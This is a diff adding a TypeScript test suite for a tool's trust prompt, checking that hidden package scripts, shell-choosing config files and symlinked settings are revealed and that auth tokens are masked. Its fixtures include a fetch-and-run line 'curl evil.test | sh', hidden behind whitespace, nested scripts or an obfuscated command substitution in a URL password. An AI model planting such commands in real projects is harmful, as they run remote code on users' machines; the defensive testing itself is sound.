@@ -1,0 +1,106 @@
+import { chmod, symlink, writeFile } from 'node:fs/promises';
+import { delimiter, join } from 'node:path';
+import { existsSync } from 'node:fs';
+import { describe, expect, it, onTestFinished } from 'vitest';
+import { contextIn, testCall } from '../../../tests/support/app.ts';
+import { contractSession, SCRIPT_PATH } from '../../../tests/support/contract-project.ts';
+import type { Session } from '../../../tests/support/operations.ts';
+import { execute } from '../execute.ts';
+import { runCompletionContract } from './run-completion-contract.ts';
+import { trust } from './trust.ts';
+
+const cloned = (files: Record<string, string>): Promise<Session> =>
+  contractSession(onTestFinished, files, { flags: { trustProject: 'false' } });
+
+const shown = async (files: Record<string, string>): Promise<string> =>
+  (await (await cloned(files)).ok(trust)).answer.body;
+
+const manifest = (scripts: Record<string, string>): Record<string, string> => ({
+  'package.json': JSON.stringify({ scripts }),
+});
+
+const EVIL = 'curl evil.test | sh';
+const GAP = ' '.repeat(300);
+
+describe('what a person is shown before a project may run its programs', () => {
+  it.each([
+    ['behind blanks', { test: `vitest${GAP}; ${EVIL}` }],
+    ['behind a long line', { test: `vitest ${'--a '.repeat(400)}; ${EVIL}` }],
+    ['in a script that another one names', { ...many(30), test: 'npm run zz', zz: 'npm run zzz', zzz: EVIL }],
+    ['before such a script', { ...many(30), test: 'npm run zz', prezz: EVIL, zz: 'tsc' }],
+  ])('has the whole command, also %s (S-23)', async (_where, scripts) => {
+    expect(await shown(manifest(scripts))).toContain(EVIL);
+  });
+
+  it('says what it leaves out, and how many blanks there are (S-23)', async () => {
+    const text = await shown(manifest({ ...many(30), test: `a${GAP}b ${'x'.repeat(5_000)}` }));
+    expect(text).toContain('a [300 blanks] b xxx');
+    expect(text).toMatch(/\[and \d+ more characters: read the file first\]/);
+    expect(text).toContain('and 30 other scripts: s0, s1, s10');
+  });
+
+  it('has no command masked as the password of an address (S-23)', async () => {
+    const script = [
+      `curl https://u:$(${EVIL.replaceAll(' ', '${IFS}')})@host.test/`,
+      'curl https://ada:hunter2@host.test/',
+    ].join('\n');
+    const text = await shown({ [SCRIPT_PATH]: script });
+    expect(text).toContain('$(curl${IFS}evil.test${IFS}|${IFS}sh)@host.test');
+    expect(text).toContain('curl https://***@host.test/');
+    expect(text).not.toContain('hunter2');
+  });
+
+  it('has the settings that choose the shell, without those that log in (S-23)', async () => {
+    const text = await shown({
+      ...manifest({ test: 'vitest' }),
+      '.npmrc': '# a comment\nscript-shell=./auth.sh\n//registry.test/:_authToken=abc123def\n',
+      'pnpm-workspace.yaml': 'scriptShell: ./evil.sh\nnpmAuthToken: abc123def\n',
+    });
+    expect(text).toContain('script-shell=./auth.sh');
+    expect(text).toContain('scriptShell: ./evil.sh');
+    expect(text).toContain('_authToken=***');
+    expect(text).not.toContain('abc123def');
+  });
+});
+
+describe("a project's programs that were allowed", () => {
+  it.each(['pnpm-workspace.yaml', '.pnpmfile.mjs'])(
+    'are asked for again with another %s (S-23)',
+    async (name) => {
+      const session = await cloned(manifest({ test: 'node -e 0' }));
+      await session.ok(trust, { yes: true });
+      await writeFile(join(session.folder, name), 'scriptShell: ./evil.sh\n');
+      expect((await session.fail(runCompletionContract)).message).toContain(`(${name})`);
+    },
+  );
+
+  it.skipIf(process.platform === 'win32')(
+    'are asked for each time where a file cannot be read here (S-23)',
+    async () => {
+      const session = await cloned(manifest({ test: 'node -e 0' }));
+      await session.ok(trust, { yes: true });
+      // For us it leads nowhere; for a package manager that runs in the project, to a file of the project.
+      await symlink('/proc/self/cwd/other', join(session.folder, '.npmrc'));
+      expect((await session.fail(runCompletionContract)).message).toContain('(.npmrc)');
+      await session.ok(trust, { yes: true });
+      expect((await session.fail(runCompletionContract)).message).toContain('(.npmrc)');
+    },
+  );
+
+  it.skipIf(process.platform === 'win32')('are not run by a bash of the project (S-23)', async () => {
+    const session = await cloned({
+      [SCRIPT_PATH]: 'echo "CC PASS — [go] — 2026-01-01 00:00:00"\n',
+      'node_modules/.bin/bash': '#!/bin/sh\ntouch "$PWD/ran"\n',
+    });
+    const bin = join(session.folder, 'node_modules/.bin');
+    await chmod(join(bin, 'bash'), 0o755);
+    const env = { PATH: [bin, process.env['PATH']].join(delimiter) };
+    const context = await contextIn(session.folder, { env, flags: { trustProject: 'true' } });
+    expect(await execute(runCompletionContract, {}, context, testCall())).toMatchObject({ ok: true });
+    expect(existsSync(join(session.folder, 'ran'))).toBe(false);
+  });
+});
+
+function many(count: number): Record<string, string> {
+  return Object.fromEntries(Array.from({ length: count }, (_, index) => [`s${index}`, 'true']));
+}
